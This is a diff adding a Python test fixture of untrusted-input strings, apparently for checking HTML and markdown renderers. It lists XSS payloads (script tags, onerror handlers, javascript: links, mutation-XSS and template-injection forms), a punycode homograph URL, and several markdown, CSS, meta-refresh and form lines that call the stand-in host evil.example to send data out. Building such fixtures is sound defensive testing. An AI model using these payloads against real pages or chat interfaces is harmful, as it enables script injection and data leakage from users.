@@ -1,0 +1,30 @@
+"""Strings that try to run script, to fetch, or to leave for another place, wherever untrusted text is shown."""
+
+STRINGS: tuple[str, ...] = (
+    "<script>console.log('xss')</script>",
+    "<img src=x onerror=console.log('xss')>",
+    "<svg/onload=console.log('xss')>",
+    "<iframe srcdoc='<script>parent.console.log(1)</script>'>",
+    "[x](javascript:console.log('xss'))",
+    "[x](JaVaScRiPt:console.log('xss'))",
+    "[x](java\tscript:console.log('xss'))",
+    "![x](https://evil.example/?d=1)",
+    "[x][r]\n\n[r]: https://evil.example/?d=1",
+    "![x](\"onerror=console.log('xss'))",
+    "<a href=\"javascript:console.log('xss')\">x</a>",
+    "<style>@import'//evil.example'</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<form action=//evil.example><button>x</form>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=console.log('xss')>",
+    "<noscript><p title=\"</noscript><img src=x onerror=console.log('xss')>\">",
+    "$\\href{javascript:console.log('xss')}{x}$",
+    "```mermaid\ngraph TD;A[\"<img src=x onerror=console.log('xss')>\"]\n```",
+    "' onmouseover=console.log('xss') x='",
+    "javascript:console.log('xss')//https://ok.example",
+    "https://ok.example/\"onmouseover=\"console.log('xss')",
+    "{{constructor.constructor('console.log(1)')()}}",
+    "https://xn--pple-43d.com/",
+)
+"""Each prints `xss` when it succeeds, or calls evil.example."""
